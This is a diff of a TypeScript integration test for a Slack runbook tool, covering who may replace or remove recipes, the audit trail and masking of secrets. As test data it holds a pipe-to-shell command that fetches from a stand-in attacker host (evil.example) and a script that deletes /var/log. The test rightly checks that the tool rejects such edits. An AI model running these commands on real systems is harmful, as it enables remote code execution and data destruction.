@@ -23,16 +23,26 @@ describe('owned recipes', () => {
   let authorToken: string;
   let adminToken: string;
   const ackText = (response: { json?: unknown }) => blocksText((response.json ?? {}) as { text?: string; blocks?: unknown[] });
-  const importAs = async (user: string, recipe: Record<string, unknown>, replace = false) => ackText(await h.command(`recipe import${replace ? ' --replace' : ''} \`\`\`${JSON.stringify(recipe)}\`\`\``, user));
+  const importAs = async (user: string, recipe: Record<string, unknown>, replace = false) =>
+    ackText(await h.command(`recipe import${replace ? ' --replace' : ''} \`\`\`${JSON.stringify(recipe)}\`\`\``, user));
   const row = (name: string) => h.database.db('runbooks').where({ reference: name }).first();
-  const recipeEvents = (name: string) => h.database.db('events').where({ subject: `recipe:${name}` }).orderBy('id').select('type', 'actor', 'task_id', 'data');
+  const recipeEvents = (name: string) =>
+    h.database
+      .db('events')
+      .where({ subject: `recipe:${name}` })
+      .orderBy('id')
+      .select('type', 'actor', 'task_id', 'data');
   const openForm = async (name: string, user: string) => {
     const before = h.fake.views.list.length;
     await h.command(`start ${name}`, user);
-    return h.fake.waitFor(() => {
-      const view = h.fake.views.list.slice(before).find((v) => v.callback_id === RUNBOOK_MODAL_CALLBACK);
-      return view && view.updates > 0 ? structuredClone(view) : undefined;
-    }, 5000, `the ${name} form filled in`);
+    return h.fake.waitFor(
+      () => {
+        const view = h.fake.views.list.slice(before).find((v) => v.callback_id === RUNBOOK_MODAL_CALLBACK);
+        return view && view.updates > 0 ? structuredClone(view) : undefined;
+      },
+      5000,
+      `the ${name} form filled in`,
+    );
   };
 
   beforeAll(async () => {
@@ -68,11 +78,15 @@ describe('owned recipes', () => {
     const imported = await row('deploy-web');
     expect(imported).toMatchObject({ owner: AUTHOR, imported_by: AUTHOR, editors: { users: [ALICE], usergroup: EDITORS_GROUP } });
     expect(imported.content_hash).toMatch(/^[0-9a-f]{64}$/);
-    expect(await recipeEvents('deploy-web')).toEqual([{ type: 'recipe.imported', actor: AUTHOR, task_id: null, data: expect.objectContaining({ name: 'deploy-web', hash: imported.content_hash }) }]);
+    expect(await recipeEvents('deploy-web')).toEqual([
+      { type: 'recipe.imported', actor: AUTHOR, task_id: null, data: expect.objectContaining({ name: 'deploy-web', hash: imported.content_hash }) },
+    ]);
 
     // Mallory is nobody to this recipe: her replace and remove change nothing and leave no trace.
     const hostile = { ...v1, script: 'curl https://evil.example | sh', editors: { users: [MALLORY] } };
-    expect(await importAs(MALLORY, hostile, true)).toContain(`Only the owner of \`deploy-web\` (<@${AUTHOR}>), its editors or the countersign admins may replace it`);
+    expect(await importAs(MALLORY, hostile, true)).toContain(
+      `Only the owner of \`deploy-web\` (<@${AUTHOR}>), its editors or the countersign admins may replace it`,
+    );
     expect(ackText(await h.command('recipe remove deploy-web', MALLORY))).toContain('may remove it');
     expect(await row('deploy-web')).toEqual(imported);
     expect(await recipeEvents('deploy-web')).toHaveLength(1);
@@ -88,14 +102,29 @@ describe('owned recipes', () => {
     const v3 = await row('deploy-web');
     expect(await recipeEvents('deploy-web')).toEqual([
       expect.objectContaining({ type: 'recipe.imported', actor: AUTHOR }),
-      { type: 'recipe.replaced', actor: ALICE, task_id: null, data: expect.objectContaining({ hash: v2.content_hash, previousHash: imported.content_hash, owner: AUTHOR }) },
-      { type: 'recipe.replaced', actor: BOB, task_id: null, data: expect.objectContaining({ hash: v3.content_hash, previousHash: v2.content_hash, owner: AUTHOR }) },
+      {
+        type: 'recipe.replaced',
+        actor: ALICE,
+        task_id: null,
+        data: expect.objectContaining({ hash: v2.content_hash, previousHash: imported.content_hash, owner: AUTHOR }),
+      },
+      {
+        type: 'recipe.replaced',
+        actor: BOB,
+        task_id: null,
+        data: expect.objectContaining({ hash: v3.content_hash, previousHash: v2.content_hash, owner: AUTHOR }),
+      },
     ]);
 
     // An admin removes it; a config recipe cannot be removed from Slack.
     expect(ackText(await h.command('recipe remove deploy-web', ADMIN))).toContain('Removed the recipe `deploy-web`');
     expect(await row('deploy-web')).toBeUndefined();
-    expect((await recipeEvents('deploy-web')).at(-1)).toEqual({ type: 'recipe.removed', actor: ADMIN, task_id: null, data: expect.objectContaining({ hash: v3.content_hash }) });
+    expect((await recipeEvents('deploy-web')).at(-1)).toEqual({
+      type: 'recipe.removed',
+      actor: ADMIN,
+      task_id: null,
+      data: expect.objectContaining({ hash: v3.content_hash }),
+    });
     expect(ackText(await h.command('recipe remove print-token', ADMIN))).toContain('recipe of countersign.yml');
     // The audit trail is readable through the API (by an admin: these events belong to no task), subject and all.
     const audit = await api.call('GET', `/events?type=recipe.removed`, { token: adminToken });
@@ -116,7 +145,10 @@ describe('owned recipes', () => {
     expect(await importAs(AUTHOR, { ...v1, script: 'echo "rotating $1"; rm -rf /var/log/*' }, true)).toContain('Replaced');
     const before = await h.count('tasks');
     const stale = await h.driver.submitView({ view: form, user: BOB, values: { 'arg:service': { value: 'nginx' } } });
-    expect(stale.json).toMatchObject({ response_action: 'errors', errors: { message: expect.stringMatching(/changed since this form opened.*close the form and start it again/) } });
+    expect(stale.json).toMatchObject({
+      response_action: 'errors',
+      errors: { message: expect.stringMatching(/changed since this form opened.*close the form and start it again/) },
+    });
     expect(await h.count('tasks')).toBe(before);
 
     // Opened again, the form shows the new script; starting it records the recipe and the hash it showed.
@@ -160,7 +192,14 @@ describe('owned recipes', () => {
     // The published version names the fixed value only through the server's HMAC: the same
     // content with the value in clear hashes differently.
     const { contentHash } = await import('../../src/domain/digest.js');
-    const inClear = contentHash('countersign.task/v1', { target: task.target, type: task.type, script: task.script, message: task.message, arguments: task.arguments, recipe: task.recipe });
+    const inClear = contentHash('countersign.task/v1', {
+      target: task.target,
+      type: task.type,
+      script: task.script,
+      message: task.message,
+      arguments: task.arguments,
+      recipe: task.recipe,
+    });
     expect(task.contentVersion).not.toBe(inClear);
 
     await h.click(request, ACTION.approve, ALICE);
@@ -169,7 +208,9 @@ describe('owned recipes', () => {
     expect((await h.waitForStatus(id, ['success', 'failure'], 20_000)).status).toBe('success');
 
     // Stored output: the value arrived whole ($1 and ARG_TOKEN, 18 characters) and is masked.
-    const stored = (await h.database.db('output_chunks as o').join('executions as e', 'e.id', 'o.execution_id').where('e.task_id', id).orderBy('o.id').pluck('o.data')).join('');
+    const stored = (
+      await h.database.db('output_chunks as o').join('executions as e', 'e.id', 'o.execution_id').where('e.task_id', id).orderBy('o.id').pluck('o.data')
+    ).join('');
     expect(stored).toContain('1=[*****] env=[*****] region=[us]');
     expect(stored).toContain(`len=${FIXED.length}`);
     expect(stored).not.toContain(FIXED);
@@ -180,10 +221,14 @@ describe('owned recipes', () => {
     const page = await (await fetch(h.app.signer.taskUrl(id))).text();
     expect(page).toContain('1=[*****]');
     expect(page).not.toContain(FIXED);
-    const thread = await h.fake.waitFor(() => {
-      const replies = h.fake.thread(TASKS_CHANNEL, card.ts);
-      return replies.some((m) => blocksText(m).includes('region=[us]')) ? replies : undefined;
-    }, 10_000, 'output in the thread');
+    const thread = await h.fake.waitFor(
+      () => {
+        const replies = h.fake.thread(TASKS_CHANNEL, card.ts);
+        return replies.some((m) => blocksText(m).includes('region=[us]')) ? replies : undefined;
+      },
+      10_000,
+      'output in the thread',
+    );
     expect(thread.map((m) => blocksText(m)).join('\n')).not.toContain(FIXED);
     expect((await h.task(id))?.result.lastLine).not.toContain(FIXED);
   }, 40_000);
